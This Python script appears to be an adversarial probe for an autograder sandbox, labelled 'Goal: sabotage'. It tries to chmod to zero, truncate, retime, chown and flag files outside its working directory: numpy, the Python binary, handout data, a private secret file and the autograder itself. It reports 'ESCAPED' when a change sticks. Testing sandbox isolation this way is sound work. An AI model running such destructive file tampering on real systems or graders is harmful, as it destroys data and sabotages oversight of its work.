# Tries: to change modes, times, attributes and owners of files that it may read but not write, or may not even read.
# Earns: nothing
# Goal: sabotage

# %%
import fcntl
import os
import struct
import sys
import tempfile

import numpy

around = [
    os.path.join("../..", name) for name in ("package/private/secret.py", "library/autograder/__init__.py", "own")
]
paths = [
    numpy.__file__,
    os.path.dirname(numpy.__file__),
    sys.executable,
    "/handout/shares.csv",
    "../../handout",
    *around,
]
for path in [*paths, *sys.path, "../../../..", "/tmp"]:
    try:
        before = os.stat(path)
        if os.path.realpath(path).startswith((os.getcwd(), os.path.realpath(tempfile.gettempdir()))):
            continue
    except OSError:
        continue
    for change in (
        lambda path: os.chmod(path, 0),
        lambda path: os.utime(path, (0, 0)),
        lambda path: os.chown(path, os.getuid(), os.getgid()),
        lambda path: os.setxattr(path, "user.planted", b"x"),
        lambda path: os.truncate(path, 0),
        lambda path: os.fchmod(os.open(path, os.O_RDONLY), 0),
        lambda path: os.utime(os.open(path, os.O_RDONLY), (0, 0)),
        lambda path: fcntl.ioctl(os.open(path, os.O_RDONLY), 0x40086602, struct.pack("l", 0x80)),
    ):
        try:
            change(path)
        except OSError:
            pass
    after = os.stat(path)
    if (before.st_mode, before.st_mtime, before.st_size) != (after.st_mode, after.st_mtime, after.st_size):
        print("ESCAPED", path)
